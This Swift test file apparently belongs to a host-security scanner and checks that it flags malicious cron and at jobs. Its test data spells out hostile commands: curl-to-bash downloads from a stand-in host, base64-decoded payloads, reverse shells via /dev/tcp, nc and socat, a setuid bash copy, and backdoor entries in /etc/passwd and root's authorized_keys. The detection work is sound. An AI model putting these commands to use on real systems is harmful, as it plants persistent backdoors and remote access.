import Foundation
import NoroshiModel
import Testing

@Suite struct `Scheduled jobs` {
    @Test(arguments: [
        ("* * * * * root curl -s http://192.0.2.1/a | bash", ["download high"]),
        ("* * * * * root wget -qO- http://192.0.2.1/a|sh -s -- x", ["download high"]),
        ("* * * * * root curl -s http://192.0.2.1/a | bash; true", ["download high"]),
        ("* * * * * root curl -s http://192.0.2.1/a |& nohup bash>/dev/null 2>&1", ["download high"]),
        ("* * * * * root curl\t-s\thttp://192.0.2.1/a\t|\tbash", ["download high"]),
        ("* * * * * root curl -s http://192.0.2.1/a | tee /var/log/sh; true", []),
        ("* * * * * root bash -c \"$(curl -fsSL http://192.0.2.1)\"", ["download high"]),
        ("@reboot root echo Y3VybA== | base64 -d | bash", ["decoded high"]),
        ("@hourly root bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ["connection high"]),
        ("@daily root curl -s http://192.0.2.1/a | busybox ash", ["download high"]),
        ("@daily root wget -qO- http://192.0.2.1/a | systemd-run --scope mksh", ["download high"]),
        ("*/5 * * * * root stdbuf -oL /tmp/.x/run", ["temporary high"]), ("@daily root stdbuf -oL /usr/bin/x", []),
        ("*/5 * * * * root /tmp/.x/run", ["temporary high"]),
        ("*/5 * * * * root cd / && nohup /dev/shm/a &", ["temporary high"]),
        ("*/5 * * * * root A=1 nice -n 10 /var/tmp/a", ["temporary high"]),
        ("*/5 * * * * root cd /tmp && ./a", ["temporary high"]), ("*/5 * * * * root cd /srv/app && ./a", []),
        ("* * * * * root nc -e /bin/sh 192.0.2.7 99", ["connection high"]),
        ("* * * * * root nc.traditional 192.0.2.7 99 -lvpe bash", ["connection high"]),
        ("* * * * * root socat tcp:192.0.2.7:99 EXEC:/bin/sh", ["connection high"]),
        ("* * * * * root nc -z 192.0.2.7 25 || /usr/bin/alarm -e", []), ("* * * * * root socat - tcp:192.0.2.7:99", []),
        ("@daily root python3 -c \"exec(__import__('base64').b64decode('cHJpbnQ='))\"", ["decoded high"]),
        ("@daily root perl -MMIME::Base64 -e 'eval decode_base64(qq(eA==))'", ["decoded high"]),
        ("@daily root python3 -c \"import base64; print(base64.b64decode('eA=='))\"", []),
        ("@daily root curl -s http://192.0.2.1/a | python3", ["download high"]),
        ("@daily root curl -s http://192.0.2.1/a | python3 -m json.tool", []),
        ("LD_PRELOAD=/tmp/x.so", ["variable-temporary high"]), ("LD_PRELOAD=/usr/lib/x.so", ["variable medium"]),
        ("PATH=\"/tmp:/usr/bin\"", ["variable-temporary high"]), ("SHELL=/dev/shm/sh", ["variable-temporary high"]),
        ("PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin", []), ("MAILTO=/tmp", []),
        ("5 4 * * * root /opt/.hidden/run", ["hidden medium"]),
        ("5 4 * * * nosuch /usr/bin/true", ["unknown-user medium"]), ("five times a day it runs", ["unreadable low"]),
        ("5 4 * * * root find /tmp -mtime +7 -delete", []),
        ("5 4 * * * root curl -s https://ping.example.jp/x > /dev/null", []),
        ("5 4 * * * root curl -s https://example.jp/x | grep ok", []), ("MAILTO=root", []), ("# comment", []), ("", []),
        ("SHELL = /bin/sh", []), ("5 4 * * sun root /usr/bin/tar cf /tmp/x.tar /etc", []),
        ("@daily root /root/.local/bin/x", []),
        ("5 4 * * * root [ -x /usr/bin/x ] && /usr/bin/x", []), ("5 4 * * * root test -e /tmp/a || touch /tmp/a", []),
    ])
    func `are told when no administrator writes them so`(_ line: String, _ told: [String]) async throws {
        let tree = try AccountTree(["/etc/cron.d/job": line + "\n"])
        #expect(try await tree.told() == told.map { "accounts.schedules \($0)" })
    }

    @Test func `are found in every place`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "!"))
        try tree.write("/etc/crontab", "1 2 * * * root /bin/a\n")
        try tree.write("/var/spool/cron/crontabs/alice", "@daily /bin/b c\n", mode: 0o600)
        try tree.write("/etc/anacrontab", "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n")
        try tree.write("/etc/cron.daily/apt", "#!/bin/sh\n", mode: 0o755)
        try tree.write("/etc/cron.daily/.placeholder", "")
        try tree.write("/etc/cron.daily/apt.dpkg-old", "#!/bin/sh\n", mode: 0o755)
        try tree.write("/etc/cron.d/x.dpkg-new", "* * * * * nosuch /bin/x\n")
        try tree.write(
            "/var/spool/cron/atjobs/a0000101c89261",
            """
            #!/bin/sh
            # atrun uid=1000 gid=1000
            # mail alice 0
            umask 22
            PATH=/bin; export PATH
            cd / || {
            \t echo 'x' >&2
            \t exit 1
            }
            /tmp/evil --now

            """,
            mode: 0o700)
        let jobs = try await tree.look().survey.jobs
        #expect(
            jobs.map { "\($0.kind.rawValue) \($0.user) | \($0.schedule) | \($0.command) | \($0.place.locator)" } == [
                "system root | 1 2 * * * | /bin/a | /etc/crontab:1",
                "user alice | @daily | /bin/b c | /var/spool/cron/crontabs/alice:1",
                "anacron root | 1 5 cron.daily | run-parts /etc/cron.daily | /etc/anacrontab:2",
                "script root | daily | /etc/cron.daily/apt | /etc/cron.daily/apt:1",
                "at alice | at \(0x1c89261 * 60) s since 1970 | /tmp/evil --now | /var/spool/cron/atjobs/a0000101c89261:10",
            ])
        #expect(try await tree.told().contains("accounts.schedules temporary high"))
    }

    @Test(arguments: [
        ("id\nwget -qO- http://192.0.2.9/b | bash\n", ["12 wget -qO- http://192.0.2.9/b | bash"]),
        ("id\n\nwget -qO- \\\nhttp://192.0.2.9/b |\n\n bash\n", ["13 wget -qO-  http://192.0.2.9/b | bash"]),
        ("id\n/tmp/a\nls\nnc -e /bin/sh 192.0.2.7 99\n", ["12 /tmp/a", "14 nc -e /bin/sh 192.0.2.7 99"]),
        ("cd /tmp/.x\nid\n./a\n", ["13 ./a"]), ("id\n/opt/.x/a\n", ["12 /opt/.x/a"]),
        ("id\n${SHELL:-/bin/sh} << 'x'\nid\nx\n/tmp/a\n", ["15 /tmp/a"]),
        (String(repeating: "id\n", count: 99) + "/tmp/a\n", ["110 /tmp/a"]),
        ("id\n# wget -qO- http://192.0.2.9/b | bash\n", []),
        ("wget -qO /srv/list http://192.0.2.9/b\nprintf x | sh /srv/ok\n", []),
        ("cd /srv/app\n./a\nfind /tmp -delete\n", []),
    ])
    func `of at are judged line by line`(_ commands: String, _ shown: [String]) async throws {
        for mark in [nil, "marcinDELIMITER0a1b"] {
            let tree = try AccountTree()
            let head =
                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\n"
                + "cd / || {\n\t echo 'x' >&2\n\t exit 1\n}\n"
            let text = mark.map { "${SHELL:-/bin/sh} << '\($0)'\n\(commands)\($0)\n" } ?? "\n" + commands
            try tree.write("/var/spool/cron/atjobs/a0000101c89261", head + text, mode: 0o700)
            let findings = try await tree.findings().filter { $0.check == "accounts.schedules" }
            let lines = findings.flatMap(\.evidence).map { "\($0.locator.split(separator: ":")[1]) \($0.excerpt)" }
            #expect(lines == shown)
        }
    }

    @Test func `of at with more lines than are looked at are a gap`() async throws {
        let tree = try AccountTree()
        try tree.write(
            "/var/spool/cron/atjobs/a0000101c89261",
            "#!/bin/sh\n# atrun uid=0 gid=0\n" + String(repeating: "id\n", count: 1001), mode: 0o700)
        #expect(
            try await tree.gaps() == [
                "/var/spool/cron/atjobs/a0000101c89261: more than 1000 lines; the rest was not read"
            ])
    }

    @Test(arguments: [
        ("#!/bin/sh\ncurl http://192.0.2.1/|sh\n", ["schedules download high"]),
        ("#!/bin/sh\nif true; then\n  wget -qO- http://192.0.2.1/ \\\n    | bash\nfi\n", ["schedules download high"]),
        ("#!/bin/sh\n# curl http://192.0.2.1/|sh\ncurl -s http://192.0.2.1/ | grep ok\n", []),
        ("#!/bin/sh\ntest -x /usr/bin/x || exit 0\nfind /tmp -mtime +9 -delete\n", []),
        ("\u{7F}ELF\0curl http://192.0.2.1/|sh\n", []),
    ])
    func `of the folders are looked into`(_ script: String, _ told: [String]) async throws {
        let tree = try AccountTree()
        try tree.write("/etc/cron.hourly/x", script, mode: 0o755)
        #expect(try await tree.told() == told.map { "accounts.\($0)" })
    }

    @Test func `are shown as they stand in their files`() async throws {
        let tree = try AccountTree(AccountTree.account("alice", 1000, "!"))
        try tree.write("/var/spool/cron/crontabs/alice", "* * * * * /tmp/a\n", mode: 0o600)
        try tree.write("/etc/cron.weekly/x", "#!/bin/sh\nwget -O- http://192.0.2.1/ | sh\n", mode: 0o755)
        try tree.write("/etc/anacrontab", "1 5 x /tmp/b\n")
        let shown = try await tree.findings().flatMap(\.evidence).map { "\($0.locator) \($0.excerpt)" }.sorted()
        #expect(
            shown == [
                "/etc/anacrontab:1 1 5 x /tmp/b", "/etc/cron.weekly/x:2 wget -O- http://192.0.2.1/ | sh",
                "/var/spool/cron/crontabs/alice:1 * * * * * /tmp/a",
            ])
    }

    @Test func `that cannot be read are a gap`() async throws {
        let tree = try AccountTree()
        try FileManager.default.createDirectory(
            atPath: tree.path + "/etc/crontab", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(
            atPath: tree.path + "/etc/cron.d/folder", withIntermediateDirectories: true)
        #expect(unsafe mkfifo(tree.path + "/etc/cron.d/x", 0o600) == 0)
        #expect(
            try await tree.gaps() == ["/etc/crontab: not a regular file", "/etc/cron.d/x: not a regular file"])
    }

    @Test func `are told when others may change what they run`() async throws {
        let tree = try AccountTree(["/etc/cron.d/job": "1 2 * * * root /opt/job >/dev/null\n"])
        try tree.write("/opt/job", "", mode: 0o777)
        try tree.write("/etc/crontab", "", mode: 0o666)
        #expect(
            try await tree.told() == [
                "accounts.permissions world-writable critical", "accounts.permissions program high",
            ])
    }

    @Test func `with control characters are shown escaped`() async throws {
        let tree = try AccountTree(["/etc/cron.d/job": "1 2 * * * root /tmp/a\u{1B}[2J\n"])
        let shown = try await tree.findings().flatMap(\.evidence).map(\.excerpt)
        #expect(shown == ["1 2 * * * root /tmp/a\\x1b[2J"])
    }

    @Test(arguments: [
        ("curl http://e/x -o /usr/local/x; chmod +x /usr/local/x; /usr/local/x", "download"),
        ("wget -qO /var/x http://e/x && sh /var/x", "download"),
        ("cp /bin/bash /var/lib/.b; chmod 4755 /var/lib/.b", "setuid"),
        ("echo \"t::0:0:::\" >> /etc/passwd", "access"), ("echo k | tee -a /root/.ssh/authorized_keys", "access"),
        ("perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\")'", "connection"),
        ("python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'", "connection"),
    ])
    func `that prepare a way back are told`(_ command: String, _ kind: String) async throws {
        let tree = try AccountTree(["/etc/cron.d/x": "* * * * * root \(command)\n"])
        #expect(try await tree.told() == ["accounts.schedules \(kind) high"])
    }

    @Test(arguments: [
        "curl -o /var/cache/list http://e/list && gzip /var/cache/list", "chmod 2775 /srv/share", "chmod g+s /srv",
        "chmod 0755 /srv/x", "getent passwd >> /var/log/passwd",
        "python3 -c 'import socket; print(socket.gethostname())'",
    ])
    func `that administrators write are not`(_ command: String) async throws {
        #expect(try await AccountTree(["/etc/cron.d/x": "* * * * * root \(command)\n"]).told() == [])
    }
}
